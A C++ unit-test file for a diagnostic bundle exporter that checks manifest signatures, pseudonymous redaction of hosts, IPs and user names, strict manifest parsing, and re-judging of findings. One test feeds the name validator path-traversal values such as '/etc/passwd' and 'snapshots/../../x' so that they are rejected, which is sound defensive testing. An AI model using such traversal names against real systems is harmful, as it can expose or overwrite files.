    EXPECT_TRUE(names(check, c.member, BundleProblem::ManifestClaim)) << c.what << ":\n"
                                                                      << problems(check);
    EXPECT_NE(messageOf(check, c.member, BundleProblem::ManifestClaim).find(c.says),
              std::string::npos)
        << c.what << ":\n"
        << problems(check);
  }
  // And another support engineer signing alice's manifest: the exporter is not who signed.
  auto m = good;
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().bob));
  const auto check = verify(m);
  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim)
                .find("exported by CN=alice,OU=support,O=ibcollect but manifest.sig is signed by "
                      "CN=bob,OU=support,O=ibcollect"),
            std::string::npos)
      << problems(check);
}

TEST(Bundle, ARedactedBundleSaysWhatCouldNotBeChecked) {
  auto m = exported(true);
  auto check = verify(m);
  EXPECT_TRUE(check.ok()) << problems(check);
  ASSERT_EQ(check.unchecked.size(), 1u);
  EXPECT_THAT(check.unchecked[0], HasSubstr("tenant 'acme', 2 node name(s)"));
  EXPECT_THAT(check.unchecked[0], HasSubstr("redacted"));
  EXPECT_TRUE(verify(exported(false)).unchecked.empty());
  // A redacted manifest over a bundle that carries a snapshot contradicts itself.
  m["snapshots/gpu07.ibsnap"] = exported(false).at("snapshots/gpu07.ibsnap");
  resign(m, relisted(m), pki().alice);
  check = verify(m);
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
      << problems(check);
}

TEST(Bundle, HostResultsTheExporterIncludesAreListedUnderItsSignature) {
  BundleExportOptions o;
  o.case_id = "CASE-7";
  o.host_results.push_back({"hv12", "{\"host\":\"hv12\"}", 1700000150000});
  auto m = buildBundle(twoNodes(), o, signerOf(pki().alice));
  ASSERT_TRUE(m.ok()) << m.error().message;
  ASSERT_EQ(m->count("host/hv12.json"), 1u);
  const auto check = verify(*m);
  EXPECT_TRUE(check.ok()) << problems(check);
  EXPECT_EQ(check.signers.size(), 1u);
  ASSERT_EQ(check.manifest->attachments_size(), 1);
  EXPECT_EQ(check.manifest->attachments(0).member(), "host/hv12.json");
  EXPECT_EQ(check.manifest->attachments(0).attached_by().name(), "alice");
  EXPECT_EQ(check.manifest->attachments(0).attached_at_unix_ms(), 1700000150000);
  // Redacted: left out (they name hosts).
  o.redact = true;
  m = buildBundle(twoNodes(), o, signerOf(pki().alice));
  ASSERT_TRUE(m.ok());
  EXPECT_EQ(m->count("host/hv12.json"), 0u);
}

TEST(Bundle, MemberNamesMustBeSafe) {
  for (const char* ok :
       {"manifest.json", "snapshots/node-1.ibsnap", "host/hv.json", "attachments/001.json"}) {
    EXPECT_TRUE(checkMemberName(ok).ok()) << ok;
  }
  for (const char* bad : {"", "/etc/passwd", "../x", "snapshots/../../x", "a//b", "./a", "a/b/c",
                          "a b", "a\\b", "snapshots/\x01"}) {
    EXPECT_FALSE(checkMemberName(bad).ok()) << bad;
  }
  EXPECT_EQ(bundleMemberKind("snapshots/x.ibsnap"), "snapshot");
  EXPECT_EQ(bundleMemberKind("snapshots/.ibsnap"), "");
  EXPECT_EQ(bundleMemberKind("host/x.json"), "host");
  EXPECT_EQ(bundleMemberKind("other.json"), "");
  EXPECT_EQ(bundleMemberKind("attachments/001.json"), "attachment");
  EXPECT_EQ(bundleMemberKind("attachments/1000.sig"), "attachment_signature");
  for (const char* odd : {"attachments/1.json", "attachments/0001.json", "attachments/000.json",
                          "attachments/001.txt", "attachments/x01.json"}) {
    EXPECT_EQ(bundleMemberKind(odd), "") << odd;
  }
  EXPECT_EQ(attachmentRecordName(7), "attachments/007.json");
  EXPECT_EQ(attachmentSignatureName(1234), "attachments/1234.sig");
}

TEST(Bundle, ManifestParsingRefusesUnknownFieldsAndNewerVersions) {
  const auto m = exported();
  std::string json = m.at("manifest.json");
  EXPECT_TRUE(parseManifest(json).ok());
  std::string extra = json;
  extra.insert(1, "\"surprise\": 1,");
  EXPECT_FALSE(parseManifest(extra).ok());
  auto newer = *parseManifest(json);
  newer.set_format_version(kBundleFormatVersion + 1);
  auto r = parseManifest(renderManifest(newer));
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::Unsupported);
  for (const char* garbage : {"", "{", "[]", "null", "{\"format\":\"zip\",\"format_version\":1}"}) {
    EXPECT_FALSE(parseManifest(garbage).ok()) << garbage;
  }
}

// Every host name, IP address and user name of the input, as it appears in the unredacted
// members: the redacted members must hold none of them.
TEST(Bundle, RedactionLeavesNoHostNameIpOrUserName) {
  const std::vector<std::string> secrets = {"gpu07.corp.example",
                                            "gpu07",
                                            "gpu08",
                                            "user",
                                            "192.168.1.10",
                                            "192.168.1.14",
                                            "192.168.1.15",
                                            "jdoe",
                                            "fe80:0000:0000:0000:0a7f:bc12:45ef:d23c"};
  const auto plain = exported(false);
  std::string everything;
  for (const auto& [name, bytes] : plain) everything += bytes;
  // The test can fail: each secret is there without redaction (in some member).
  for (const auto& s : secrets) {
    EXPECT_THAT(everything, HasSubstr(s)) << s << " never appears unredacted";
  }
  const auto redacted = exported(true);
  EXPECT_TRUE(verify(redacted).ok()) << problems(verify(redacted));
  for (const auto& [name, bytes] : redacted) {
    EXPECT_THAT(name, Not(HasSubstr("snapshots/"))) << "signed snapshots are left out";
    if (name == "manifest.sig") continue;  // the exporter's certificate chain (DER)
    for (const auto& s : secrets) {
      // Case-insensitive scan between non-alphanumeric bytes (inside paths and file names
      // too: "nccl.gpu07.log"), except the pseudonyms themselves ("user-001").
      std::string lower = toLower(bytes);
      std::size_t pos = 0;
      while ((pos = lower.find(toLower(s), pos)) != std::string::npos) {
        const auto alnum = [&](std::size_t i) {
          return i < lower.size() && std::isalnum(static_cast<unsigned char>(lower[i]));
        };
        const bool pseudonym = lower.compare(pos + s.size(), 1, "-") == 0 &&
                               alnum(pos + s.size() + 1) &&
                               std::isdigit(static_cast<unsigned char>(lower[pos + s.size() + 1]));
        const bool whole = (pos == 0 || !alnum(pos - 1)) && !alnum(pos + s.size()) && !pseudonym;
        EXPECT_FALSE(whole) << "'" << s << "' survives in " << name << " at " << pos << ": ..."
                            << bytes.substr(pos > 40 ? pos - 40 : 0, 100) << "...";
        pos += s.size();
      }
    }
  }
  auto manifest = parseManifest(redacted.at("manifest.json"));
  ASSERT_TRUE(manifest.ok());
  EXPECT_TRUE(manifest->redacted());
  EXPECT_EQ(manifest->nodes(0).node(), "node-001");
  EXPECT_EQ(manifest->nodes(0).member(), "");
  EXPECT_THAT(redacted.at("findings.json"), HasSubstr("ip-00"));
  EXPECT_THAT(redacted.at("report.md"), HasSubstr("node-001"));
}

TEST(Redactor, PseudonymsAreStableAndCoverEveryForm) {
  Redactor r;
  r.addHost("node01.cluster.local");
  EXPECT_EQ(r.redact("node01 and NODE01.cluster.local, node011 stays"),
            "node-001 and node-001, node011 stays");
  EXPECT_EQ(r.redact("from 10.0.0.1:5000 and 10.0.0.1 and 10.0.0.2"),
            "from ip-001:5000 and ip-001 and ip-002");
  EXPECT_EQ(r.redact("gid ::ffff:10.9.8.7, fe80::1%ib0 and [2001:db8::5]:80"),
            "gid ip-003, ip-004%ib0 and [ip-005]:80");
  EXPECT_EQ(r.redact("mac 00:11:22:33:44:55 time 12:34:56 version 1.2.3"),
            "mac 00:11:22:33:44:55 time 12:34:56 version 1.2.3");
  EXPECT_EQ(r.redact("cd /home/alice/x; USER=bob; alice ran it; bob too; /root stays"),
            "cd /home/user-001/x; USER=user-002; user-001 ran it; user-002 too; /root stays");
  EXPECT_EQ(r.redact("256.1.1.1 is no address"), "256.1.1.1 is no address");
}

// The real gcm captures hold placeholders (a file holding its own name: "node_guid",
// "address", "fw_ver"): none of them reaches the host's runbook, and neither does an
// all-zero GUID or MAC (an unconfigured VF).
TEST(Bundle, PlaceholderOrZeroIdentitiesNeverReachThePfRunbook) {
  v1::Snapshot s = brokenVfSnapshot("gpu07");
  auto* d = s.mutable_devices(0);
  d->set_node_guid("node_guid");
  d->set_sys_image_guid("0000:0000:0000:0000");
  d->set_fw_ver("fw_ver");
  d->set_board_id("board_id");
  d->mutable_ports(0)->set_port_guid("port_guid");
  auto* n = s.add_netdevs();
  n->set_name("ib0");
  n->set_rdma_device("mlx5_0");
  n->set_rdma_port(1);
  n->set_address("address");
  AnalyzedNode node;
  node.snapshot = s;
  v1::Finding f;
  f.set_code("ESCALATE_HOST_INSPECTION");
  f.set_severity("critical");
  f.set_device("mlx5_0");
  f.set_port(1);
  f.add_reasons("PHY_ERRORS");
  node.findings.push_back(f);
  std::vector<AnalyzedNode> nodes{node};
  labelNodes(nodes);
  const auto pf = buildPfInspection(nodes, "", "4242");
  ASSERT_EQ(pf.suspects_size(), 1);
  const auto& vf = pf.suspects(0);
  EXPECT_EQ(vf.node_guid(), "");
  EXPECT_EQ(vf.port_guid(), "");
  EXPECT_EQ(vf.sys_image_guid(), "");
  EXPECT_EQ(vf.fw_ver(), "");
  EXPECT_EQ(vf.board_id(), "");
  EXPECT_EQ(vf.mac(), "");
  EXPECT_EQ(vf.pci_address(), "0000:0c:00.1");  // what is well-formed stays
  const std::string md = renderPfInspectionMarkdown(pf);
  for (const std::string placeholder : {"node_guid", "port_guid", "fw_ver", "'address'"}) {
    EXPECT_THAT(md, Not(HasSubstr(placeholder))) << placeholder << "\n" << md;
  }
  EXPECT_THAT(md, HasSubstr("0000:0c:00.1"));
  // Placeholders in prose are code: a Markdown renderer would take a bare "<PF_NETDEV>" for
  // an HTML tag and hide it (and what follows).
  EXPECT_THAT(md, HasSubstr("the mst device `<PF>` of `<PF_PCI>`"));
  EXPECT_THAT(md, Not(HasSubstr(" <PF_NETDEV>,")));
}

}  // namespace
}  // namespace ibc::core

namespace ibc::core {
namespace {

TEST(BundleJudgement, AnExportedBundleJudgedAgainHasNoDifference) {
  const auto members = exported(false);
  const auto again = rejudgeBundle(members);
  ASSERT_TRUE(again.judged) << again.reason;
  EXPECT_GT(again.findings_compared, 0u);
  EXPECT_TRUE(again.differences.empty()) << again.differences.front();
}

TEST(BundleJudgement, AFindingDroppedFromFindingsJsonIsNamed) {
  auto members = exported(false);
  v1::Report report;
  ASSERT_TRUE(
      google::protobuf::util::JsonStringToMessage(members.at("findings.json"), &report).ok());
  ASSERT_GT(report.findings_size(), 0);
  const v1::Finding dropped = report.findings(0);
  report.mutable_findings()->DeleteSubrange(0, 1);
  members["findings.json"] = *renderJson(report);
  const auto again = rejudgeBundle(members);
  ASSERT_TRUE(again.judged) << again.reason;
  ASSERT_EQ(again.differences.size(), 1u);
  EXPECT_THAT(again.differences[0], HasSubstr(dropped.code()));
  EXPECT_THAT(again.differences[0], HasSubstr("missing from findings.json"));
}

TEST(BundleJudgement, ARedactedBundleSaysItCannotBeJudgedAgain) {
  const auto again = rejudgeBundle(exported(true));
  EXPECT_FALSE(again.judged);
  EXPECT_THAT(again.reason, HasSubstr("redacted"));
}

}  // namespace
}  // namespace ibc::core
